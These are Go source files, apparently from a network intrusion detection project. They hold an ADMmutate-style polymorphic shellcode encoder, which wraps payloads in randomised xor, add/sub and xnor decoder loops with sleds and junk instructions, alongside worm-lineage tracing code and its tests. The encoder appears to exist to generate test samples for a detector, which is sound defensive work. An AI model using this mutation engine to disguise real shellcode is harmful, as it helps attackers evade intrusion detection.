}

// emitKey loads a byte key into the low byte of fam using equivalent
// constructions that require constant folding to resolve.
func emitKey(rng *rand.Rand, a *x86.Asm, fam x86.Reg, key byte) {
	switch rng.Intn(3) {
	case 0:
		a.MovRI(fam, int64(key))
	case 1:
		base := int64(int32(rng.Uint32()))
		diff := (int64(key) - base) & 0xffffffff
		a.MovRI(fam, base).AddRI(fam, int64(int32(uint32(diff))))
	case 2:
		mask := int64(int32(rng.Uint32()))
		a.MovRI(fam, int64(key)^mask).I(x86.XOR, x86.RegOp(fam), x86.ImmOp(mask))
	}
}

// emitAdvance advances ptr by one byte using a random equivalent form.
func emitAdvance(rng *rand.Rand, a *x86.Asm, ptr x86.Reg) {
	switch rng.Intn(4) {
	case 0:
		a.IncR(ptr)
	case 1:
		a.AddRI(ptr, 1)
	case 2:
		a.SubRI(ptr, -1)
	case 3:
		a.I(x86.LEA, x86.RegOp(ptr), x86.MemOp(x86.MemRef{Base: ptr, Disp: 1, Scale: 1}))
	}
}

// xorTransform describes the chosen equivalent substitution for the
// memory transform of the xor scheme.
type xorTransform struct {
	name   string
	keyReg x86.Reg // RegNone when the key is an immediate
	key    byte
	// encode maps a payload byte to its encoded form so the decoder's
	// transform restores the original.
	encode func(b byte) byte
	emit   func(a *x86.Asm, ptr x86.Reg)
}

func (m *ADMmutate) pickXorTransform(keyFams []x86.Reg) xorTransform {
	key := byte(m.rng.Intn(255) + 1) // non-zero
	switch m.rng.Intn(4) {
	case 0: // xor [ptr], imm
		return xorTransform{
			name: "xor-imm", key: key,
			encode: func(b byte) byte { return b ^ key },
			emit: func(a *x86.Asm, ptr x86.Reg) {
				a.I(x86.XOR, mem8(ptr), x86.ImmOp(int64(int8(key))))
			},
		}
	case 1: // xor [ptr], reg (key folded into the register)
		fam := keyFams[m.rng.Intn(len(keyFams))]
		return xorTransform{
			name: "xor-reg", key: key, keyReg: fam,
			encode: func(b byte) byte { return b ^ key },
			emit: func(a *x86.Asm, ptr x86.Reg) {
				a.I(x86.XOR, mem8(ptr), x86.RegOp(low8(fam)))
			},
		}
	case 2: // add [ptr], k  — encode by subtracting
		return xorTransform{
			name: "add-imm", key: key,
			encode: func(b byte) byte { return b - key },
			emit: func(a *x86.Asm, ptr x86.Reg) {
				a.I(x86.ADD, mem8(ptr), x86.ImmOp(int64(int8(key))))
			},
		}
	default: // sub [ptr], k — encode by adding
		return xorTransform{
			name: "sub-imm", key: key,
			encode: func(b byte) byte { return b + key },
			emit: func(a *x86.Asm, ptr x86.Reg) {
				a.I(x86.SUB, mem8(ptr), x86.ImmOp(int64(int8(key))))
			},
		}
	}
}

// encodeXor builds a sample around the classic xor-loop decoder.
func (m *ADMmutate) encodeXor(payload []byte) ([]byte, Meta, error) {
	rng := m.rng
	ooo := m.OutOfOrder && rng.Intn(2) == 0

	// Register assignment: pointer, counter, then junk scratch.
	ptrPool := []x86.Reg{x86.ESI, x86.EDI, x86.EBX, x86.EDX, x86.EBP}
	ptr := ptrPool[rng.Intn(len(ptrPool))]

	useLoop := !ooo && rng.Intn(2) == 0
	cnt := x86.ECX
	if !useLoop {
		cntPool := remove([]x86.Reg{x86.ECX, x86.EAX, x86.EBX, x86.EDX}, ptr)
		cnt = cntPool[rng.Intn(len(cntPool))]
	}

	keyFams := remove(remove([]x86.Reg{x86.EAX, x86.EBX, x86.ECX, x86.EDX}, ptr), cnt)
	tf := m.pickXorTransform(keyFams)

	scratch := famPool
	for _, used := range []x86.Reg{ptr, cnt, tf.keyReg} {
		scratch = remove(scratch, used)
	}
	junk := &junkCtx{rng: rng, scratch: scratch}

	sledLen := 8 + rng.Intn(m.MaxSled-7)
	a := x86.NewAsm()
	genSled(rng, a, sledLen)

	blocks := []block{
		{"setup", func(a *x86.Asm) {
			a.PopR(ptr).PushR(ptr)
			junk.emitJunk(a, 2)
			emitCounter(rng, a, cnt, int64(len(payload)))
			if tf.keyReg != x86.RegNone {
				junk.emitJunk(a, 2)
				emitKey(rng, a, tf.keyReg, tf.key)
			}
		}},
		{"xform", func(a *x86.Asm) {
			junk.emitJunk(a, 2)
			a.Label("loop")
			tf.emit(a, ptr)
			junk.emitJunk(a, 2)
		}},
		{"step", func(a *x86.Asm) {
			emitAdvance(rng, a, ptr)
			junk.emitJunk(a, 2)
		}},
		{"back", func(a *x86.Asm) {
			switch {
			case useLoop:
				a.Loop("loop")
			case ooo:
				a.DecR(cnt)
				a.JccNear(x86.CondNE, "loop")
			default:
				a.DecR(cnt)
				a.JccShort(x86.CondNE, "loop")
			}
			a.I(x86.RET)
		}},
	}

	a.Jmp("call")
	emitBlocks(rng, a, blocks, ooo)
	a.Label("call").Call("setup")

	head, err := a.Bytes()
	if err != nil {
		return nil, Meta{}, fmt.Errorf("polymorph: %w", err)
	}
	payloadOff := len(head)

	out := make([]byte, 0, len(head)+len(payload))
	out = append(out, head...)
	for _, b := range payload {
		out = append(out, tf.encode(b))
	}
	meta := Meta{
		Scheme:     SchemeXor,
		Key:        tf.key,
		Transform:  tf.name,
		SledLen:    sledLen,
		PayloadOff: payloadOff,
		PayloadLen: len(payload),
	}
	return out, meta, nil
}

// encodeXnor builds a sample around the alternate mov/or/and/not
// decoder (an XNOR cipher):
//
//	mov  r1, [ptr]
//	mov  r2, r1
//	not  r2
//	and  r1, K
//	and  r2, ~K
//	or   r1, r2
//	mov  [ptr], r1
//
// which computes ~(b ^ K) — an involution, so encoding applies the
// same function.
func (m *ADMmutate) encodeXnor(payload []byte) ([]byte, Meta, error) {
	rng := m.rng
	ooo := m.OutOfOrder && rng.Intn(2) == 0

	ptrPool := []x86.Reg{x86.ESI, x86.EDI, x86.EBP}
	ptr := ptrPool[rng.Intn(len(ptrPool))]

	useLoop := !ooo && rng.Intn(2) == 0
	regPool := []x86.Reg{x86.EAX, x86.EBX, x86.ECX, x86.EDX}
	cnt := x86.ECX
	if !useLoop {
		cnt = regPool[rng.Intn(len(regPool))]
	}
	pairPool := remove(regPool, cnt)
	r1 := pick(rng, &pairPool)
	r2 := pick(rng, &pairPool)

	scratch := famPool
	for _, used := range []x86.Reg{ptr, cnt, r1, r2} {
		scratch = remove(scratch, used)
	}
	junk := &junkCtx{rng: rng, scratch: scratch}

	key := byte(rng.Intn(256))
	xnor := func(b byte) byte { return ^(b ^ key) }

	sledLen := 8 + rng.Intn(m.MaxSled-7)
	a := x86.NewAsm()
	genSled(rng, a, sledLen)

	blocks := []block{
		{"setup", func(a *x86.Asm) {
			a.PopR(ptr).PushR(ptr)
			junk.emitJunk(a, 2)
			emitCounter(rng, a, cnt, int64(len(payload)))
		}},
		{"load", func(a *x86.Asm) {
			a.Label("loop")
			a.I(x86.MOV, x86.RegOp(low8(r1)), mem8(ptr))
			junk.emitJunk(a, 1)
			a.I(x86.MOV, x86.RegOp(low8(r2)), x86.RegOp(low8(r1)))
			a.I(x86.NOT, x86.RegOp(low8(r2)))
		}},
		{"mask", func(a *x86.Asm) {
			a.I(x86.AND, x86.RegOp(low8(r1)), x86.ImmOp(int64(int8(key))))
			junk.emitJunk(a, 1)
			a.I(x86.AND, x86.RegOp(low8(r2)), x86.ImmOp(int64(int8(^key))))
			a.I(x86.OR, x86.RegOp(low8(r1)), x86.RegOp(low8(r2)))
		}},
		{"store", func(a *x86.Asm) {
			a.I(x86.MOV, mem8(ptr), x86.RegOp(low8(r1)))
			junk.emitJunk(a, 2)
			emitAdvance(rng, a, ptr)
		}},
		{"back", func(a *x86.Asm) {
			switch {
			case useLoop:
				a.Loop("loop")
			case ooo:
				a.DecR(cnt)
				a.JccNear(x86.CondNE, "loop")
			default:
				a.DecR(cnt)
				a.JccShort(x86.CondNE, "loop")
			}
			a.I(x86.RET)
		}},
	}

	a.Jmp("call")
	emitBlocks(rng, a, blocks, ooo)
	a.Label("call").Call("setup")

	head, err := a.Bytes()
	if err != nil {
		return nil, Meta{}, fmt.Errorf("polymorph: %w", err)
	}
	out := make([]byte, 0, len(head)+len(payload))
	out = append(out, head...)
	for _, b := range payload {
		out = append(out, xnor(b))
	}
	meta := Meta{
		Scheme:     SchemeXnor,
		Key:        key,
		Transform:  "xnor",
		SledLen:    sledLen,
		PayloadOff: len(head),
		PayloadLen: len(payload),
	}
	return out, meta, nil
}

// DecodePayload applies the inverse transform described by meta to the
// payload region of a generated sample, returning the original
// payload. Used by tests to prove generated samples are well-formed.
func DecodePayload(sample []byte, meta Meta) ([]byte, error) {
	if meta.PayloadOff < 0 || meta.PayloadOff+meta.PayloadLen > len(sample) {
		return nil, errors.New("polymorph: meta out of range")
	}
	enc := sample[meta.PayloadOff : meta.PayloadOff+meta.PayloadLen]
	out := make([]byte, len(enc))
	switch meta.Transform {
	case "xor-imm", "xor-reg":
		for i, b := range enc {
			out[i] = b ^ meta.Key
		}
	case "add-imm": // decoder adds, so encoded = orig - key
		for i, b := range enc {
			out[i] = b + meta.Key
		}
	case "sub-imm":
		for i, b := range enc {
			out[i] = b - meta.Key
		}
	case "xnor":
		for i, b := range enc {
			out[i] = ^(b ^ meta.Key)
		}
	default:
		return nil, fmt.Errorf("polymorph: unknown transform %q", meta.Transform)
	}
	return out, nil
}
