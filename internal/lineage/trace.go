package lineage

import (
	"net/netip"
	"sort"

	"semnids/internal/core"
)

// TreeNode is one host in an ancestry tree.
type TreeNode struct {
	// Host is the node's address. The root is the family's patient
	// zero (a host that delivered the payload but was never delivered
	// to); every other node was infected by its parent.
	Host netip.Addr `json:"host"`

	// InfectedAtUS is the trace time of the node's first witnessed
	// delivery (for the root: its first witnessed emission).
	InfectedAtUS uint64 `json:"infected_at_us"`

	// Via is the exact fingerprint of the payload variant that
	// infected this node (zero for the root).
	Via core.Fingerprint `json:"via,omitempty"`

	// Confidence scores the edge to the parent (0 for the root):
	// 0.9 when the child re-emitted the family payload (the infection
	// demonstrably took), plus 0.05 each when the delivering variant's
	// template/statement symbols match the child's re-emission — the
	// IPP-style corroboration that delivery and re-emission share a
	// decoder lineage; 0.6 for leaf deliveries (witnessed delivery,
	// no echo).
	Confidence float64 `json:"confidence,omitempty"`

	// Children are the hosts this node infected, sorted by address.
	Children []TreeNode `json:"children,omitempty"`
}

// Tree is one reconstructed infection tree: all hosts traced to one
// patient zero within one payload family.
type Tree struct {
	// Tail identifies the payload family (the shared decoded-tail
	// fingerprint all the family's variants converge on).
	Tail core.Fingerprint `json:"tail"`

	Root TreeNode `json:"root"`

	// Nodes and MaxDepth summarize the tree (root depth 0).
	Nodes    int `json:"nodes"`
	MaxDepth int `json:"max_depth"`
}

// Edges counts parent→child links in the tree.
func (t Tree) Edges() int { return t.Nodes - 1 }

// Trace reconstructs ancestry trees from a canonical observation set.
// Pure and deterministic: the output depends only on the set content,
// so federated merges and solo sensors render identical forests.
//
// Parent identification per payload family (shared Tail): a host's
// parent is the source of the earliest witnessed delivery to it — the
// first infection wins, exactly the IPP tracer's "identify the parent
// of each descendant" step with the decoded tail as the unalterable
// symbol. Hosts that delivered family payloads but were never
// delivered to are roots. No edge is ever invented: every edge cites a
// witnessed delivery (its Via fingerprint), so a benign suite — which
// produces no observations — yields no trees, and unrelated payloads
// (different tails) can never link.
func Trace(obs []Observation) []Tree {
	byTail := make(map[core.Fingerprint][]*Observation)
	for i := range obs {
		o := &obs[i]
		if o.Tail.IsZero() || !o.Src.IsValid() || !o.Dst.IsValid() {
			continue
		}
		byTail[o.Tail] = append(byTail[o.Tail], o)
	}
	tails := make([]core.Fingerprint, 0, len(byTail))
	for t := range byTail {
		tails = append(tails, t)
	}
	sort.Slice(tails, func(i, j int) bool { return lessFP(tails[i], tails[j]) })

	var trees []Tree
	for _, tail := range tails {
		trees = append(trees, traceFamily(tail, byTail[tail])...)
	}
	return trees
}

// traceFamily builds the forest of one payload family.
func traceFamily(tail core.Fingerprint, group []*Observation) []Tree {
	sort.Slice(group, func(i, j int) bool { return witnessLess(group[i], group[j]) })

	// First witnessed delivery to each host, and first witnessed
	// emission by each host (group is witness-sorted, so first hit
	// wins deterministically).
	delivery := make(map[netip.Addr]*Observation)
	emission := make(map[netip.Addr]*Observation)
	hostSet := make(map[netip.Addr]bool)
	for _, o := range group {
		hostSet[o.Src] = true
		hostSet[o.Dst] = true
		if delivery[o.Dst] == nil {
			delivery[o.Dst] = o
		}
		if emission[o.Src] == nil {
			emission[o.Src] = o
		}
	}
	hosts := make([]netip.Addr, 0, len(hostSet))
	for h := range hostSet {
		hosts = append(hosts, h)
	}
	sort.Slice(hosts, func(i, j int) bool { return hosts[i].Less(hosts[j]) })

	children := make(map[netip.Addr][]netip.Addr)
	var roots []netip.Addr
	for _, h := range hosts {
		if d := delivery[h]; d != nil && d.Src != h {
			children[d.Src] = append(children[d.Src], h)
		} else {
			roots = append(roots, h)
		}
	}

	// Parent pointers derive from witnessed deliveries, which in
	// adversarial or clock-skewed data can form cycles (A's first
	// delivery from B, B's first from A). Promote the smallest
	// unreached host to a root until every host is covered — a
	// deterministic tie-break, never a silent drop.
	reached := make(map[netip.Addr]bool)
	var mark func(h netip.Addr)
	mark = func(h netip.Addr) {
		if reached[h] {
			return
		}
		reached[h] = true
		for _, c := range children[h] {
			mark(c)
		}
	}
	for _, r := range roots {
		mark(r)
	}
	for _, h := range hosts { // sorted: smallest unreached first
		if !reached[h] {
			roots = append(roots, h)
			mark(h)
		}
	}
	sort.Slice(roots, func(i, j int) bool { return roots[i].Less(roots[j]) })

	built := make(map[netip.Addr]bool)
	var build func(h netip.Addr, depth int, nodes, maxDepth *int) TreeNode
	build = func(h netip.Addr, depth int, nodes, maxDepth *int) TreeNode {
		built[h] = true
		*nodes++
		if depth > *maxDepth {
			*maxDepth = depth
		}
		n := TreeNode{Host: h}
		if d := delivery[h]; d != nil && d.Src != h && built[d.Src] {
			n.InfectedAtUS = d.FirstUS
			n.Via = d.Exact
			n.Confidence = edgeConfidence(d, emission[h])
		} else if e := emission[h]; e != nil {
			n.InfectedAtUS = e.FirstUS
		} else if d != nil {
			n.InfectedAtUS = d.FirstUS
		}
		for _, c := range children[h] {
			if built[c] {
				continue // cycle edge already broken by root promotion
			}
			n.Children = append(n.Children, build(c, depth+1, nodes, maxDepth))
		}
		return n
	}

	var trees []Tree
	for _, r := range roots {
		if built[r] {
			continue
		}
		t := Tree{Tail: tail}
		t.Root = build(r, 0, &t.Nodes, &t.MaxDepth)
		trees = append(trees, t)
	}
	return trees
}

// edgeConfidence scores one infection edge from its witnessed delivery
// and the child's first re-emission (nil when the child never
// re-emitted).
// Scores accumulate in integer hundredths so the float (and its JSON
// rendering) is the exact nearest-double of 0.60/0.90/0.95/1.00 —
// never 0.9500000000000001.
func edgeConfidence(delivery, echo *Observation) float64 {
	if echo == nil {
		return 0.6
	}
	c := 90
	if delivery.TemplateSym != 0 && delivery.TemplateSym == echo.TemplateSym {
		c += 5
	}
	if delivery.StmtsSym != 0 && delivery.StmtsSym == echo.StmtsSym {
		c += 5
	}
	return float64(c) / 100
}
