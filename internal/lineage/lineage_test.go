package lineage

import (
	"encoding/json"
	"fmt"
	"math/rand"
	"net/netip"
	"reflect"
	"testing"

	"semnids/internal/core"
)

// obs builds a test observation: payload #id, tail family, delivered
// src→dst at us. Sensors defaults to one synthetic witness per id so
// provenance unions are visible in merge tests.
func obs(id int, tail core.Fingerprint, src, dst string, us uint64) Observation {
	return Observation{
		Exact:   core.FingerprintOf([]byte(fmt.Sprintf("payload-%d", id))),
		Tail:    tail,
		FirstUS: us,
		Src:     netip.MustParseAddr(src),
		Dst:     netip.MustParseAddr(dst),
		Sensors: []string{fmt.Sprintf("s%d", id%3)},
	}
}

func tailOf(name string) core.Fingerprint { return core.FingerprintOf([]byte(name)) }

// canonical renders an observation list for byte-level comparison.
func canonical(t *testing.T, obs []Observation) string {
	t.Helper()
	b, err := json.Marshal(obs)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// sampleObservations is a deterministic pseudo-random observation set:
// several payload families, overlapping hosts, duplicated exact
// fingerprints with differing witnesses (the later witness must lose).
func sampleObservations(seed int64, n int) []Observation {
	rng := rand.New(rand.NewSource(seed))
	tails := []core.Fingerprint{tailOf("worm-a"), tailOf("worm-b"), tailOf("worm-c")}
	out := make([]Observation, 0, n)
	for i := 0; i < n; i++ {
		id := rng.Intn(n / 2) // collisions on Exact are the point
		o := obs(id, tails[id%len(tails)],
			fmt.Sprintf("10.0.%d.%d", rng.Intn(4), rng.Intn(8)+1),
			fmt.Sprintf("172.16.%d.%d", rng.Intn(4), rng.Intn(8)+1),
			uint64(1000+rng.Intn(5000)))
		o.TemplateSym = uint64(id % 5)
		o.StmtsSym = uint64(id % 7)
		out = append(out, o)
	}
	return out
}

func TestMergeCommutativeAssociativeIdempotent(t *testing.T) {
	a := Merge(sampleObservations(1, 40), nil)
	b := Merge(sampleObservations(2, 40), nil)
	c := Merge(sampleObservations(3, 40), nil)

	ab := canonical(t, Merge(a, b))
	ba := canonical(t, Merge(b, a))
	if ab != ba {
		t.Fatal("Merge(a,b) != Merge(b,a)")
	}
	abc1 := canonical(t, Merge(Merge(a, b), c))
	abc2 := canonical(t, Merge(a, Merge(b, c)))
	if abc1 != abc2 {
		t.Fatal("Merge((a,b),c) != Merge(a,(b,c))")
	}
	if canonical(t, Merge(a, a)) != canonical(t, a) {
		t.Fatal("Merge(a,a) != a")
	}
	// Absorbing a subset changes nothing: b's records are already in ab.
	if canonical(t, Merge(Merge(a, b), b)) != ab {
		t.Fatal("Merge(Merge(a,b),b) != Merge(a,b)")
	}
}

func TestMergeEarliestWitnessWins(t *testing.T) {
	tail := tailOf("worm-a")
	early := obs(1, tail, "10.0.0.1", "172.16.0.1", 100)
	late := obs(1, tail, "10.0.0.9", "172.16.0.9", 900)
	late.Sensors = []string{"zulu"}

	for _, order := range [][]Observation{{early, late}, {late, early}} {
		m := Merge(order[:1], order[1:])
		if len(m) != 1 {
			t.Fatalf("merged %d observations, want 1", len(m))
		}
		if m[0].FirstUS != 100 || m[0].Src != early.Src {
			t.Fatalf("winner = %+v, want the earliest witness", m[0])
		}
		if !reflect.DeepEqual(m[0].Sensors, []string{"s1", "zulu"}) {
			t.Fatalf("sensors = %v, want union [s1 zulu]", m[0].Sensors)
		}
	}
}

func TestMergeCapKeepsMinima(t *testing.T) {
	// Over-cap merge must keep exactly the MergeCap smallest witnesses,
	// and stay deterministic across input split points.
	var all []Observation
	for i := 0; i < MergeCap+50; i++ {
		all = append(all, obs(i, tailOf("worm-a"), "10.0.0.1", "172.16.0.1", uint64(i)))
	}
	m1 := Merge(all[:100], all[100:])
	m2 := Merge(all[100:], all[:100])
	if len(m1) != MergeCap {
		t.Fatalf("merged %d, want cap %d", len(m1), MergeCap)
	}
	if canonical(t, m1) != canonical(t, m2) {
		t.Fatal("over-cap merge depends on input order")
	}
	if m1[len(m1)-1].FirstUS != uint64(MergeCap-1) {
		t.Fatalf("largest retained witness at %dus, want %d (keep-minima)", m1[len(m1)-1].FirstUS, MergeCap-1)
	}
}

func TestStoreFoldMatchesMerge(t *testing.T) {
	// A store fed observations one at a time exports the same canonical
	// list as a flat Merge — Observe/Import and Merge share foldInto.
	sample := sampleObservations(4, 60)
	st := NewStore(StoreConfig{Sensor: "s0"})
	st.Import(sample)
	want := Merge(sample, nil)
	if canonical(t, st.Export()) != canonical(t, want) {
		t.Fatal("store fold diverged from Merge")
	}
	// Idempotent: importing the same set again changes nothing.
	st.Import(sample)
	if canonical(t, st.Export()) != canonical(t, want) {
		t.Fatal("re-import changed the store")
	}
}

func TestStoreCapDisplacement(t *testing.T) {
	st := NewStore(StoreConfig{Sensor: "s0", Cap: 4})
	for i := 0; i < 8; i++ {
		// Later payloads have earlier witnesses, so each must displace
		// the worst retained one.
		st.Import([]Observation{obs(i, tailOf("worm-a"), "10.0.0.1", "172.16.0.1", uint64(100-i))})
	}
	ex := st.Export()
	if len(ex) != 4 {
		t.Fatalf("store kept %d, want cap 4", len(ex))
	}
	for _, o := range ex {
		if o.FirstUS > 96 {
			t.Fatalf("store retained witness at %dus; the four minima end at 96", o.FirstUS)
		}
	}
}

// TestTraceChain reconstructs a three-generation chain and checks
// parents, timestamps, confidence tiers and depth accounting.
func TestTraceChain(t *testing.T) {
	tail := tailOf("worm-a")
	// p0 (10.0.0.1) infects 172.16.0.1, which re-encodes and infects
	// 172.16.0.2 (leaf: never re-emits).
	o1 := obs(1, tail, "10.0.0.1", "172.16.0.1", 100)
	o2 := obs(2, tail, "172.16.0.1", "172.16.0.2", 200)
	o1.TemplateSym, o2.TemplateSym = 7, 7
	trees := Trace([]Observation{o1, o2})
	if len(trees) != 1 {
		t.Fatalf("%d trees, want 1", len(trees))
	}
	tr := trees[0]
	if tr.Tail != tail || tr.Nodes != 3 || tr.MaxDepth != 2 || tr.Edges() != 2 {
		t.Fatalf("tree = %+v, want 3 nodes depth 2", tr)
	}
	root := tr.Root
	if root.Host != netip.MustParseAddr("10.0.0.1") || root.Confidence != 0 {
		t.Fatalf("root = %+v, want patient zero 10.0.0.1", root)
	}
	if len(root.Children) != 1 {
		t.Fatalf("root children = %d, want 1", len(root.Children))
	}
	mid := root.Children[0]
	if mid.Host != netip.MustParseAddr("172.16.0.1") || mid.InfectedAtUS != 100 || mid.Via != o1.Exact {
		t.Fatalf("mid = %+v, want infected at 100 via o1", mid)
	}
	// Mid re-emitted with a matching template symbol: 0.9 + 0.05.
	if mid.Confidence != 0.95 {
		t.Fatalf("mid confidence = %v, want 0.95", mid.Confidence)
	}
	if len(mid.Children) != 1 {
		t.Fatalf("mid children = %d, want 1", len(mid.Children))
	}
	leaf := mid.Children[0]
	if leaf.Host != netip.MustParseAddr("172.16.0.2") || leaf.Confidence != 0.6 {
		t.Fatalf("leaf = %+v, want witnessed-delivery confidence 0.6", leaf)
	}
}

// TestTraceDeterministicUnderPermutation shuffles the observation list
// and checks the forest never changes — Trace must be a pure function
// of the set, not the order.
func TestTraceDeterministicUnderPermutation(t *testing.T) {
	sample := Merge(sampleObservations(5, 80), nil)
	want := canonical(t, nil)
	{
		b, err := json.Marshal(Trace(sample))
		if err != nil {
			t.Fatal(err)
		}
		want = string(b)
	}
	rng := rand.New(rand.NewSource(99))
	for round := 0; round < 20; round++ {
		shuffled := append([]Observation(nil), sample...)
		rng.Shuffle(len(shuffled), func(i, j int) { shuffled[i], shuffled[j] = shuffled[j], shuffled[i] })
		b, err := json.Marshal(Trace(shuffled))
		if err != nil {
			t.Fatal(err)
		}
		if string(b) != want {
			t.Fatalf("round %d: permuted input changed the forest", round)
		}
	}
}

// TestTraceFamiliesNeverLink checks observations with different tails
// build disjoint trees: no cross-family edge can exist.
func TestTraceFamiliesNeverLink(t *testing.T) {
	a := obs(1, tailOf("worm-a"), "10.0.0.1", "172.16.0.1", 100)
	// Same hosts involved in a second family — must still be two trees.
	b := obs(2, tailOf("worm-b"), "172.16.0.1", "10.0.0.1", 200)
	trees := Trace([]Observation{a, b})
	if len(trees) != 2 {
		t.Fatalf("%d trees, want 2 (one per family)", len(trees))
	}
	for _, tr := range trees {
		if tr.Nodes != 2 {
			t.Fatalf("family %v has %d nodes, want 2", tr.Tail, tr.Nodes)
		}
	}
}

// TestTraceNoObservationsNoTrees is the zero-false-edges floor:
// benign suites produce no observations, hence no trees; observations
// without a tail or with invalid addresses contribute nothing.
func TestTraceNoObservationsNoTrees(t *testing.T) {
	if trees := Trace(nil); trees != nil {
		t.Fatalf("Trace(nil) = %v, want none", trees)
	}
	noTail := obs(1, core.Fingerprint{}, "10.0.0.1", "172.16.0.1", 100)
	invalid := Observation{Exact: core.FingerprintOf([]byte("x")), Tail: tailOf("worm-a"), FirstUS: 5}
	if trees := Trace([]Observation{noTail, invalid}); trees != nil {
		t.Fatalf("tail-less/invalid observations produced trees: %v", trees)
	}
}

// TestTraceCycleBreaks feeds mutually-referential deliveries (possible
// under clock skew) and checks every host still appears exactly once,
// with the deterministic promotion rule picking the root.
func TestTraceCycleBreaks(t *testing.T) {
	tail := tailOf("worm-a")
	a := obs(1, tail, "10.0.0.1", "10.0.0.2", 100)
	b := obs(2, tail, "10.0.0.2", "10.0.0.1", 100)
	trees := Trace([]Observation{a, b})
	total := 0
	seen := map[netip.Addr]bool{}
	var walk func(n TreeNode)
	walk = func(n TreeNode) {
		if seen[n.Host] {
			t.Fatalf("host %v appears twice", n.Host)
		}
		seen[n.Host] = true
		total++
		for _, c := range n.Children {
			walk(c)
		}
	}
	for _, tr := range trees {
		walk(tr.Root)
	}
	if total != 2 {
		t.Fatalf("cycle trace covered %d hosts, want 2", total)
	}
	// Promotion picks the smallest host as the entry point.
	if len(trees) == 0 || trees[0].Root.Host != netip.MustParseAddr("10.0.0.1") {
		t.Fatalf("trees = %+v, want root 10.0.0.1", trees)
	}
}

// TestTraceSelfDeliveryIsRoot checks a host whose only delivery names
// itself as source (loopback replay) roots its own tree rather than
// gaining a self-edge.
func TestTraceSelfDeliveryIsRoot(t *testing.T) {
	tail := tailOf("worm-a")
	self := obs(1, tail, "10.0.0.1", "10.0.0.1", 100)
	trees := Trace([]Observation{self})
	if len(trees) != 1 || trees[0].Nodes != 1 || trees[0].Root.Confidence != 0 {
		t.Fatalf("trees = %+v, want one single-node tree", trees)
	}
}
