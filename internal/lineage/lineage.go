// Package lineage reconstructs outbreak ancestry from structural
// payload fingerprints — the IPP-style tracing layer over the
// federated evidence plane.
//
// The correlator's PROPAGATION link requires an identical 128-bit
// payload fingerprint, so a polymorphic worm that re-encodes itself at
// every hop breaks the exact-match chain. The identifiable-parent
// property literature supplies the fix: treat the components a mutation
// engine cannot cheaply randomize as code symbols, and identify
// parents over the set of observed artifacts. Here the symbol is the
// frame's structural sketch (sem.Sketch): the emulator-decoded tail is
// the grouping key — a self-decrypting payload must reproduce its
// cleartext to run, whatever the encoder did to the bytes on the wire
// — while the template and statement symbols decorate edges with
// confidence.
//
// The package keeps the evidence plane's determinism contract: an
// Observation is keyed by its exact fingerprint and every fold is a
// minimum under a total order or a set union, so any sequence of
// Observe/Import calls over the same underlying observations converges
// to the same canonical Export — and Trace is a pure function of that
// export. Shard counts, federation order and merge bracketing cannot
// change the rendered ancestry.
package lineage

import (
	"net/netip"
	"sort"
	"sync"
	"sync/atomic"

	"semnids/internal/core"
	"semnids/internal/sem"
	"semnids/internal/telemetry"
)

// Observation is one distinct hostile payload as first witnessed: the
// exact wire identity, its structural symbols, and the flow that first
// delivered it. The exact fingerprint is the key; everything else
// folds deterministically (the lexicographically smallest
// (FirstUS, Src, Dst) witness wins wholesale, sensor sets union).
type Observation struct {
	// Exact is the 128-bit fingerprint of the frame bytes — this
	// observation's identity.
	Exact core.Fingerprint `json:"exact"`

	// Tail is the fingerprint of the emulator-decoded tail, in the
	// same keyspace as exact fingerprints. Observations sharing a Tail
	// are re-encodings of the same cleartext — one payload family.
	Tail core.Fingerprint `json:"tail"`

	// TemplateSym and StmtsSym are the sketch's behavior-class and
	// decode-chain symbols, used as edge-confidence evidence.
	TemplateSym uint64 `json:"template_sym,omitempty"`
	StmtsSym    uint64 `json:"stmts_sym,omitempty"`

	// FirstUS, Src and Dst describe the earliest witnessed delivery of
	// this exact payload (trace time; Src delivered it to Dst).
	FirstUS uint64     `json:"first_us"`
	Src     netip.Addr `json:"src"`
	Dst     netip.Addr `json:"dst"`

	// Sensors is the provenance set: every sensor that observed this
	// payload. Sorted.
	Sensors []string `json:"sensors,omitempty"`
}

// TailFingerprint converts a sketch's decoded-tail hash into the
// shared 128-bit fingerprint keyspace (zero if the sketch has no
// tail).
func TailFingerprint(sk sem.Sketch) core.Fingerprint {
	if !sk.HasTail() {
		return core.Fingerprint{}
	}
	return core.Fingerprint{A: sk.TailA, B: sk.TailB, N: sk.TailN}
}

// lessFP is the total order on fingerprints used everywhere in this
// package (identical to the correlator's).
func lessFP(a, b core.Fingerprint) bool {
	if a.A != b.A {
		return a.A < b.A
	}
	if a.B != b.B {
		return a.B < b.B
	}
	return a.N < b.N
}

// witnessLess orders observations by earliest witness: (FirstUS, Src,
// Dst, Exact). A strict total order (Exact is unique per observation
// set), so min-folds and sorts under it are deterministic.
func witnessLess(a, b *Observation) bool {
	if a.FirstUS != b.FirstUS {
		return a.FirstUS < b.FirstUS
	}
	if a.Src != b.Src {
		return a.Src.Less(b.Src)
	}
	if a.Dst != b.Dst {
		return a.Dst.Less(b.Dst)
	}
	return lessFP(a.Exact, b.Exact)
}

// foldInto merges src into dst (same Exact): the earliest witness wins
// the delivery fields wholesale, sensors union. Commutative,
// associative and idempotent — the min of a total order plus a set
// union.
func foldInto(dst, src *Observation) {
	if witnessLess(src, dst) {
		dst.Tail = src.Tail
		dst.TemplateSym = src.TemplateSym
		dst.StmtsSym = src.StmtsSym
		dst.FirstUS = src.FirstUS
		dst.Src = src.Src
		dst.Dst = src.Dst
	}
	dst.Sensors = unionSorted(dst.Sensors, src.Sensors)
}

// unionSorted merges two sorted string sets into a sorted set.
func unionSorted(a, b []string) []string {
	if len(b) == 0 {
		return a
	}
	if len(a) == 0 {
		return append([]string(nil), b...)
	}
	out := make([]string, 0, len(a)+len(b))
	i, j := 0, 0
	for i < len(a) && j < len(b) {
		switch {
		case a[i] == b[j]:
			out = append(out, a[i])
			i++
			j++
		case a[i] < b[j]:
			out = append(out, a[i])
			i++
		default:
			out = append(out, b[j])
			j++
		}
	}
	out = append(out, a[i:]...)
	out = append(out, b[j:]...)
	return out
}

// DefaultStoreCap bounds a sensor-local store; MergeCap bounds a
// merged observation set. Both retain the smallest observations under
// witnessLess — keep-K-minima under a total order is associative, so
// capping preserves the determinism contract (for outbreaks within
// the cap, which is every test and any plausible incident window).
const (
	DefaultStoreCap = 4096
	MergeCap        = 65536
)

// StoreConfig parameterizes a Store.
type StoreConfig struct {
	// Sensor stamps locally-witnessed observations' provenance.
	Sensor string
